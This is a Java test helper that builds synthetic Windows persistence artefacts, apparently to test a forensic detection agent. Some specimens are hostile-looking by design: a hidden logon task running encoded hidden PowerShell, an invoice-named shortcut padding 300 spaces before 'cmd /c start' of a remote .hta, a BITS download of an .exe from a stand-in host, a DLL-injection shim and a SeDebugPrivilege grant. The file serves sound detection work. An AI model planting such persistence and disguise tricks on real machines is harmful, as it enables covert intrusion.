package bzh.vigie.agent.persistence;

import bzh.vigie.agent.windows.ByteWriter;
import bzh.vigie.agent.windows.shim.ShimWriter;
import bzh.vigie.agent.windows.shortcut.ShortcutWriter;
import bzh.vigie.agent.windows.task.TaskSamples;
import bzh.vigie.agent.windows.wmi.RepositoryWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The recipe of the specimens that are no text: each is written from its format's description by the writers of these tests, none
 * comes from a real PC. {@link #all} gives them by their path under {@code persistence/}; {@code -Dvigie.write-specimens=true}
 * writes them.
 */
final class WindowsSpecimens {
    private static final String COMMAND = "C:\\Tools\\backup.exe";
    private static final String CLASS = "{61bcd1b9-340c-40ec-9d41-d7f1c0632f05}";
    private static final String POLICY = "host/Windows/System32/GroupPolicy/";

    private final Map<String, byte[]> files = new LinkedHashMap<>();

    private WindowsSpecimens() {}

    static Map<String, byte[]> all() throws IOException {
        WindowsSpecimens specimens = new WindowsSpecimens();
        specimens.tasks();
        specimens.shortcuts();
        specimens.system();
        specimens.policy();
        return specimens.files;
    }

    private void tasks() {
        String tasks = "/host/Windows/System32/Tasks/";
        byte[] known = TaskSamples.xml("<BootTrigger/>", "", exec(COMMAND, "-q"));
        byte[] hidden = TaskSamples.xml(
                "<LogonTrigger/>",
                "<Hidden>true</Hidden>",
                exec("powershell.exe", "-w hidden -enc SQBFAFgAIABBAEEAQQBBAEEAQQA=") + "<ComHandler><ClassId>" + CLASS
                        + "</ClassId></ComHandler>");
        files.put("windows.task.definition" + tasks + "Maintenance/Sauvegarde", known);
        files.put("windows.task.definition" + tasks + "Mise à jour", hidden);
        files.put(
                "windows.task.definition/registry.reg",
                cache("Maintenance\\Sauvegarde", "{1}", 3, true, COMMAND, "-q"));
        files.put("windows.task.cache" + tasks + "Maintenance/Sauvegarde", known);
        files.put("windows.task.cache" + tasks + "Autre", known);
        String reg = text(cache("Maintenance\\Sauvegarde", "{1}", 3, true, COMMAND, "-q"))
                + body("Autre", "{2}", 3, true, COMMAND, "--evil")
                + body("Sans fichier", "{3}", 3, true, COMMAND, "")
                + body("Caché", "{4}", 0, false, COMMAND, "-h");
        files.put("windows.task.cache/registry.reg", reg(reg));
        files.put("windows.task.job/host/Windows/Tasks/At1.job", TaskSamples.job(COMMAND, "-q", 0x200));
    }

    private static String exec(String command, String arguments) {
        return "<Exec><Command>" + command + "</Command><Arguments>" + arguments + "</Arguments></Exec>";
    }

    private static byte[] cache(
            String path, String id, int index, boolean descriptor, String command, String arguments) {
        return reg("Windows Registry Editor Version 5.00\r\n" + body(path, id, index, descriptor, command, arguments));
    }

    private static String body(
            String path, String id, int index, boolean descriptor, String command, String arguments) {
        String key = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\";
        ByteWriter actions = TaskSamples.execute(TaskSamples.actions(3, "Author"), 3, command, arguments, "");
        ByteWriter triggers = TaskSamples.general(TaskSamples.triggers(0x17, 0x40_0000), 0x17, 0xFFFF, true);
        return "\r\n[" + key + "Tree\\" + path + "]\r\n\"Id\"=\"" + id + "\"\r\n\"Index\"=dword:0000000" + index
                + "\r\n"
                + (descriptor ? "\"SD\"=" + hex(TaskSamples.descriptor()) : "")
                + "\r\n[" + key + "Tasks\\" + id + "]\r\n\"Path\"=\"\\\\" + path.replace("\\", "\\\\")
                + "\"\r\n\"Actions\"="
                + hex(actions.toBytes()) + "\"Triggers\"=" + hex(triggers.toBytes());
    }

    private static String hex(byte[] bytes) {
        return "hex:" + HexFormat.ofDelimiter(",").formatHex(bytes) + "\r\n";
    }

    private static byte[] reg(String text) {
        return new ByteWriter()
                .u16(0xFEFF)
                .bytes(text.getBytes(StandardCharsets.UTF_16LE))
                .toBytes();
    }

    private static String text(byte[] reg) {
        return new String(reg, 2, reg.length - 2, StandardCharsets.UTF_16LE);
    }

    private void shortcuts() {
        byte[] plain = new ShortcutWriter()
                .idList(COMMAND)
                .text(0x20, "-q")
                .machine("pc-accueil")
                .toBytes();
        byte[] disguised = new ShortcutWriter()
                .idList("C:\\Windows\\explorer.exe")
                .environment("%windir%\\System32\\cmd.exe")
                .text(0x20, " ".repeat(300) + "/c start https://exemple.fr/a.hta")
                .window(7)
                .toBytes();
        files.put("windows.shortcut/host/Users/Public/Desktop/Logiciel.lnk", plain);
        files.put("windows.shortcut-user/host/Users/agent/Desktop/Facture.lnk", disguised);
        String startUp = "Microsoft/Windows/Start Menu/Programs/Startup/backup.lnk";
        files.put("windows.start-folder/host/ProgramData/" + startUp, plain);
        files.put("windows.start-folder-user/host/Users/agent/AppData/Roaming/" + startUp, disguised);
    }

    private void system() {
        files.put(
                "windows.shim.database/host/Windows/AppPatch/Custom/{0b2f1d2c-9f3a-4d55-8c11-2f6a7b8c9d0e}.sdb",
                new ShimWriter()
                        .program("putty.exe", "PuTTY", "InjectDll|C:\\Tools\\backup.dll")
                        .toBytes());
        ByteWriter queue = new ByteWriter().u32(0).u32(0x89ab_cdefL).zeros(228).u32(4_096);
        queue.zeros(4_096 - queue.size()).hex("a15609e143afc94292e66f9856eba7f6");
        queue.u32(0).u32(1).u32(5).u32(0).guid("{0b2f1d2c-9f3a-4d55-8c11-2f6a7b8c9d0e}");
        for (String text : new String[] {"Mise à jour", "", COMMAND, COMMAND + " -q", "S-1-5-18"}) {
            queue.u32(text.length() + 1L).utf16(text).u16(0);
        }
        queue.u32(3).zeros(40).utf16("https://exemple.fr/a.exe").u16(0);
        queue.zeros(2 * 4_096 - queue.size());
        files.put("windows.bits/host/ProgramData/Microsoft/Network/Downloader/qmgr.db", queue.toBytes());
        RepositoryWriter.vista()
                .namespace("root\\subscription")
                .subscription(
                        "root\\subscription",
                        "veille",
                        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'",
                        COMMAND + " -q")
                .toFiles()
                .forEach((name, bytes) ->
                        files.put("windows.wmi.subscription/host/Windows/System32/wbem/Repository/" + name, bytes));
    }

    private void policy() {
        files.put("windows.policy.registry/" + POLICY + "Machine/Registry.pol", registryPolicy());
        files.put("windows.policy.registry-user/host/Users/agent/ntuser.pol", registryPolicy());
        files.put(
                "windows.policy.domain-registry/host/Windows/SYSVOL/domain/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Registry.pol",
                registryPolicy());
        files.put(
                "windows.policy.script-file/" + POLICY + "User/Scripts/scripts.ini",
                reg(
                        "\r\n[Logon]\r\n0CmdLine=C:\\Tools\\backup.exe\r\n0Parameters=-q\r\n1CmdLine=absent.bat\r\n1Parameters=\r\n"));
        files.put(
                "windows.policy.security-template/host/Windows/SYSVOL/domain/Policies/{6AC1786C-016F-11D2-945F-00C04fB984F9}/Machine/Microsoft/Windows NT/SecEdit/GptTmpl.inf",
                reg(
                        "[Unicode]\r\nUnicode=yes\r\n[Privilege Rights]\r\nSeDebugPrivilege = *S-1-5-32-544,aide\r\n[Group Membership]\r\n*S-1-5-32-544__Members = aide\r\n"));
    }

    private static byte[] registryPolicy() {
        ByteWriter out = new ByteWriter().latin1("PReg").u32(1);
        byte[] run = new ByteWriter().utf16(COMMAND + " -q").u16(0).toBytes();
        return out.utf16("[Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run\0;1\0;")
                .u32(1)
                .utf16(";")
                .u32(run.length)
                .utf16(";")
                .bytes(run)
                .utf16("]")
                .toBytes();
    }

    /** Writes them below that folder. */
    static void write(Path folder) throws IOException {
        for (Map.Entry<String, byte[]> file : all().entrySet()) {
            Path path = folder.resolve(file.getKey());
            Files.createDirectories(path.getParent());
            Files.write(path, file.getValue());
        }
    }
}
